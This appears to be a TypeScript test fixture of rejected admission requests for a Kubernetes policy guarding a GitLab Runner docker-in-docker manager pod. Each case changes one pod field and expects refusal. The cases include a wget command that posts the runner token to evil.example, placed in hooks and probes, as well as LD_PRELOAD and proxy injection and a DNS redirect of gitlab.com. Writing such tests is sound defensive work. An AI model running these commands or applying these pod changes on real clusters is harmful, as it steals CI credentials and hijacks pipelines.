import type { AdmissionAttack, Attack } from '../attack';
import {
  type Container,
  containerOf,
  type Pod,
  withContainer,
  withMetadata,
  withSpec,
  withVolume,
} from '../objects';
import { creating } from '../request';
import { REPLICA_SETS } from '../users';
import { DIND_MANAGER_POD, refused } from './subjects';

/** The manager of dind with one thing changed, as whoever may write a Deployment in the namespace has it made. */
function altered(title: string, rule: string, pod: Pod): AdmissionAttack {
  const request = creating(REPLICA_SETS, 'pods', pod);
  return refused(16, 'U', `a manager of dind with ${title}`, 'manager-pods', rule, request);
}

const container = (fields: Readonly<Record<string, unknown>>): Pod =>
  withContainer(DIND_MANAGER_POD, 'manager', fields);
const spec = (fields: Readonly<Record<string, unknown>>): Pod => withSpec(DIND_MANAGER_POD, fields);
const metadata = (fields: Partial<Pod['metadata']>): Pod => withMetadata(DIND_MANAGER_POD, fields);
const owned = (owner: object, fields: Partial<Pod['metadata']> = {}): Pod =>
  metadata({ ...fields, ownerReferences: [{ ...DIND_MANAGER_POD.metadata.ownerReferences?.[0], ...owner }] });

const {
  env = [],
  args,
  volumeMounts,
  resources,
  securityContext,
  readinessProbe,
} = containerOf(DIND_MANAGER_POD, 'manager') as Container & {
  readonly args: readonly string[];
  readonly volumeMounts: readonly object[];
};
const volumes = DIND_MANAGER_POD.spec.volumes ?? [];

const mounted = (path: string, fields: object): readonly object[] =>
  volumeMounts.map((mount) =>
    'mountPath' in mount && mount.mountPath === path ? { ...mount, ...fields } : mount,
  );
const volume = (name: string, source: object): readonly object[] =>
  volumes.map((one) => ('name' in one && one.name === name ? { name, ...source } : one));
const tokenVolume = (...sources: readonly object[]): readonly object[] =>
  volumes.map((one) => ('projected' in one ? { ...one, projected: { sources } } : one));
const variable = (...more: readonly object[]): Pod => container({ env: [...env, ...more] });
const labels = (more: Readonly<Record<string, string>>): Pod =>
  metadata({ labels: { ...DIND_MANAGER_POD.metadata.labels, ...more } });

const STEAL = 'wget --post-data $RUNNER_TOKEN https://evil.example';
const SHELL = { exec: { command: ['sh', '-c', STEAL] } };

/** Row 16: what the manager runs. */
export const PROGRAMS_OF_MANAGERS: readonly Attack[] = [
  altered('a command of its own', 'manager-container-fields', container({ command: ['sh', '-c', STEAL] })),
  altered(
    'a command of its own, by a Deployment of another name',
    'manager-owner',
    withContainer(
      owned({ name: 'dind-manager-x-6684655d6d' }, { name: 'dind-manager-x-6684655d6d-rvp95' }),
      'manager',
      {
        command: ['sh', '-c', STEAL],
      },
    ),
  ),
  altered(
    'another configuration',
    'manager-arguments',
    container({ args: ['run', '--config=/tmp/config.toml', '--working-directory=/home/gitlab-runner'] }),
  ),
  altered('a user that jobs run as', 'manager-arguments', container({ args: [...args, '--user=root'] })),
  altered('another subcommand', 'manager-arguments', container({ args: ['register', '--non-interactive'] })),
  altered(
    'a hook after its start',
    'manager-container-fields',
    container({ lifecycle: { postStart: SHELL } }),
  ),
  altered('a hook before its end', 'manager-container-fields', container({ lifecycle: { preStop: SHELL } })),
  altered('a probe that is a program', 'manager-probes', container({ readinessProbe: SHELL })),
  altered(
    'a startup probe that is a program',
    'manager-container-fields',
    container({ startupProbe: SHELL }),
  ),
  altered(
    'a probe of another path',
    'manager-probes',
    container({
      readinessProbe: { ...(readinessProbe as object), httpGet: { path: '/debug/pprof/heap', port: 9252 } },
    }),
  ),
  altered('another working directory', 'manager-container-fields', container({ workingDir: '/tmp' })),
  altered('a terminal', 'manager-container-fields', container({ stdin: true, tty: true })),
  altered(
    'its last words kept in its configuration',
    'manager-container-values',
    container({ terminationMessagePath: '/etc/gitlab-runner/certs/gitlab.example.com.crt' }),
  ),
  altered(
    'its log as its last words',
    'manager-container-values',
    container({ terminationMessagePolicy: 'FallbackToLogsOnError' }),
  ),
  altered(
    'a probe that gives up at once',
    'manager-probes',
    container({ livenessProbe: { ...(readinessProbe as object), failureThreshold: 1 } }),
  ),
  altered(
    'a probe with a header',
    'manager-probes',
    container({
      readinessProbe: {
        ...(readinessProbe as object),
        httpGet: { path: '/health/ready', port: 9252, httpHeaders: [{ name: 'a', value: 'b' }] },
      },
    }),
  ),
  altered('no probe', 'manager-probes', container({ readinessProbe: undefined })),
  altered(
    'a second container',
    'manager-container',
    spec({
      containers: [
        ...DIND_MANAGER_POD.spec.containers,
        { ...containerOf(DIND_MANAGER_POD, 'manager'), name: 'second', ports: undefined },
      ],
    }),
  ),
  altered(
    'an image that is never pulled',
    'manager-container-values',
    container({ imagePullPolicy: 'Never' }),
  ),
];

/** Row 16: what the manager is told by its environment. */
export const VARIABLES_OF_MANAGERS: readonly Attack[] = [
  altered('BASH_ENV', 'manager-secrets', variable({ name: 'BASH_ENV', value: '/tmp/x' })),
  altered('LD_PRELOAD', 'manager-secrets', variable({ name: 'LD_PRELOAD', value: '/tmp/x.so' })),
  altered('HTTPS_PROXY', 'manager-secrets', variable({ name: 'HTTPS_PROXY', value: 'http://evil.example' })),
  altered(
    'its token as another variable',
    'manager-secrets',
    container({ env: env.map((one) => ({ ...one, name: 'CI_SERVER_TOKEN' })) }),
  ),
  altered(
    'its token in plain text',
    'manager-secrets',
    container({ env: [{ name: 'RUNNER_TOKEN', value: 'glrt-x' }] }),
  ),
  altered(
    'another key of its Secret',
    'manager-secrets',
    container({
      env: [{ name: 'RUNNER_TOKEN', valueFrom: { secretKeyRef: { name: 'dind-token', key: 'other' } } }],
    }),
  ),
  altered(
    'a variable of its own labels',
    'manager-secrets',
    variable({ name: 'X', valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.name' } } }),
  ),
  altered(
    'variables of a ConfigMap',
    'manager-secrets',
    container({ envFrom: [{ configMapRef: { name: 'mine' } }] }),
  ),
  altered('variables of Services', 'manager-values', spec({ enableServiceLinks: true })),
];

/** Row 16: what the manager reads. */
export const FILES_OF_MANAGERS: readonly Attack[] = [
  altered(
    'its configuration under another key',
    'manager-volumes',
    spec({
      volumes: volume('config', {
        configMap: { name: 'dind-config', items: [{ key: 'x', path: 'config.toml' }] },
      }),
    }),
  ),
  altered(
    'the configuration of somebody',
    'manager-volumes',
    spec({ volumes: volume('config', { configMap: { name: 'mine' } }) }),
  ),
  altered(
    'its configuration from a projected volume',
    'manager-volumes',
    spec({ volumes: volume('config', { projected: { sources: [{ configMap: { name: 'dind-config' } }] } }) }),
  ),
  altered(
    'a token for another audience',
    'manager-volumes',
    withVolume(DIND_MANAGER_POD, {
      projected: {
        sources: [{ serviceAccountToken: { audience: 'vault', path: 'token', expirationSeconds: 3607 } }],
      },
    }),
  ),
  altered(
    'a token for another audience instead of its own',
    'manager-volumes',
    spec({
      volumes: tokenVolume({
        serviceAccountToken: { audience: 'sts.amazonaws.com', path: 'token', expirationSeconds: 3607 },
      }),
    }),
  ),
  altered(
    'a token of a year',
    'manager-volumes',
    spec({ volumes: tokenVolume({ serviceAccountToken: { path: 'token', expirationSeconds: 31_536_000 } }) }),
  ),
  altered(
    'another authority for the API server',
    'manager-volumes',
    spec({
      volumes: tokenVolume(
        { serviceAccountToken: { path: 'token', expirationSeconds: 3607 } },
        {
          configMap: { name: 'openshift-service-ca.crt', items: [{ key: 'service-ca.crt', path: 'ca.crt' }] },
        },
      ),
    }),
  ),
  altered(
    'a claim',
    'manager-volumes',
    withVolume(DIND_MANAGER_POD, { persistentVolumeClaim: { claimName: 'mine' } }),
  ),
  altered('one more empty volume', 'manager-volumes', withVolume(DIND_MANAGER_POD, { emptyDir: {} })),
  altered(
    'a volume in memory',
    'manager-volumes',
    spec({ volumes: volume('tmp', { emptyDir: { medium: 'Memory' } }) }),
  ),
  altered('a volume without an end', 'manager-volumes', spec({ volumes: volume('home', { emptyDir: {} }) })),
  altered(
    'its configuration elsewhere',
    'manager-mounts',
    container({ volumeMounts: mounted('/etc/gitlab-runner/config.toml', { mountPath: '/etc/other.toml' }) }),
  ),
  altered(
    'its configuration for writing',
    'manager-mounts',
    container({ volumeMounts: mounted('/etc/gitlab-runner/config.toml', { readOnly: false }) }),
  ),
  altered(
    'a folder of its own over its programs',
    'manager-mounts',
    container({ volumeMounts: mounted('/tmp', { mountPath: '/usr/bin' }) }),
  ),
  altered(
    'its configuration left out',
    'manager-mounts',
    container({
      volumeMounts: volumeMounts.filter((mount) => !('subPath' in mount)),
    }),
  ),
  altered(
    'a path of its environment',
    'manager-mounts',
    container({ volumeMounts: mounted('/tmp', { subPathExpr: '$(RUNNER_TOKEN)' }) }),
  ),
];

const TOKEN = { serviceAccountToken: { path: 'token', expirationSeconds: 3607 } };
const tokenMount = (fields: object): Pod =>
  container({
    volumeMounts: volumeMounts.map((mount) =>
      'mountPath' in mount && String(mount.mountPath).startsWith('/var/run/')
        ? { ...mount, ...fields }
        : mount,
    ),
  });

/** Row 16: how the manager knows the API server. */
export const TOKENS_OF_MANAGERS: readonly Attack[] = [
  altered(
    'its token under another name',
    'manager-volumes',
    spec({ volumes: tokenVolume({ serviceAccountToken: { path: 'other', expirationSeconds: 3607 } }) }),
  ),
  altered(
    'all of a ConfigMap beside its token',
    'manager-volumes',
    spec({ volumes: tokenVolume(TOKEN, { configMap: { name: 'kube-root-ca.crt' } }) }),
  ),
  altered(
    'an annotation as its namespace',
    'manager-volumes',
    spec({
      volumes: tokenVolume(TOKEN, {
        downwardAPI: {
          items: [
            {
              path: 'namespace',
              fieldRef: { apiVersion: 'v1', fieldPath: "metadata.annotations['checksum/config']" },
            },
          ],
        },
      }),
    }),
  ),
  altered('its token elsewhere', 'manager-mounts', tokenMount({ mountPath: '/etc/gitlab-runner/certs' })),
  altered('its token for writing', 'manager-mounts', tokenMount({ readOnly: false })),
  altered(
    'a configuration that need not be there',
    'manager-volumes',
    spec({ volumes: volume('config', { configMap: { name: 'dind-config', optional: true } }) }),
  ),
];

/** Row 16: where the manager is and what it may. */
export const PLACES_OF_MANAGERS: readonly Attack[] = [
  altered(
    'another address of GitLab',
    'manager-fields',
    spec({ hostAliases: [{ ip: '203.0.113.7', hostnames: ['gitlab.com'] }] }),
  ),
  altered(
    'a name server of its own',
    'manager-fields',
    spec({ dnsConfig: { nameservers: ['203.0.113.7'] } }),
  ),
  altered('no name server of the cluster', 'manager-values', spec({ dnsPolicy: 'Default' })),
  altered('a host name', 'manager-fields', spec({ hostname: 'gitlab', subdomain: 'com' })),
  altered('one process space', 'manager-fields', spec({ shareProcessNamespace: true })),
  altered('an end', 'manager-fields', spec({ activeDeadlineSeconds: 60 })),
  altered(
    'a gate before its readiness',
    'manager-fields',
    spec({ readinessGates: [{ conditionType: 'example.com/x' }] }),
  ),
  altered(
    'a pull secret of somebody',
    'manager-pull-secrets',
    spec({ imagePullSecrets: [{ name: 'mine' }] }),
  ),
  altered('no time to end its jobs', 'manager-values', spec({ terminationGracePeriodSeconds: 0 })),
  altered(
    'a constraint of its own',
    'manager-node',
    spec({
      topologySpreadConstraints: [
        {
          maxSkew: 1,
          topologyKey: 'kubernetes.io/hostname',
          whenUnsatisfiable: 'DoNotSchedule',
          labelSelector: {},
        },
      ],
    }),
  ),
  altered('another scheduler', 'manager-node', spec({ schedulerName: 'mine' })),
  altered(
    'the group of a device',
    'manager-security',
    spec({
      securityContext: { ...(DIND_MANAGER_POD.spec['securityContext'] as object), supplementalGroups: [6] },
    }),
  ),
  altered(
    'another user',
    'manager-security',
    spec({ securityContext: { ...(DIND_MANAGER_POD.spec['securityContext'] as object), runAsUser: 1000 } }),
  ),
  altered(
    'a root that can be written',
    'manager-security',
    container({ securityContext: { ...securityContext, readOnlyRootFilesystem: false } }),
  ),
  altered(
    'a user of the container',
    'manager-security',
    container({ securityContext: { ...securityContext, runAsUser: 1000 } }),
  ),
  altered('no port', 'manager-ports', container({ ports: undefined })),
  altered(
    'the name of its port on another',
    'manager-ports',
    container({ ports: [{ name: 'metrics', containerPort: 8080, protocol: 'TCP' }] }),
  ),
  altered(
    'more memory than declared',
    'manager-resources',
    container({ resources: { ...resources, limits: { ...resources?.limits, memory: '600Mi' } } }),
  ),
  altered(
    'less memory than declared',
    'manager-resources',
    container({ resources: { ...resources, limits: { ...resources?.limits, memory: '256Mi' } } }),
  ),
  altered(
    'an annotation that injects a container',
    'manager-metadata',
    metadata({
      annotations: { ...DIND_MANAGER_POD.metadata.annotations, 'sidecar.istio.io/inject': 'true' },
    }),
  ),
  altered(
    'an annotation of the container runtime',
    'manager-metadata',
    metadata({
      annotations: { ...DIND_MANAGER_POD.metadata.annotations, 'io.kubernetes.cri-o.userns-mode': 'auto' },
    }),
  ),
  altered('a label that others select', 'manager-metadata', labels({ app: 'gitlab' })),
  altered('the label of another kind', 'manager-metadata', labels({ 'runner-fleet/kind': 'docker' })),
  altered('a ReplicaSet of somebody', 'manager-owner', owned({ name: 'mine-6684655d6d' })),
  altered(
    'a name that is not of its ReplicaSet',
    'manager-owner',
    metadata({ name: 'dind-manager-x-rvp95' }),
  ),
  altered('a StatefulSet', 'manager-owner', owned({ kind: 'StatefulSet', name: 'dind-manager' })),
  altered('a ReplicaSet of another API group', 'manager-owner', owned({ apiVersion: 'example.com/v1' })),
];
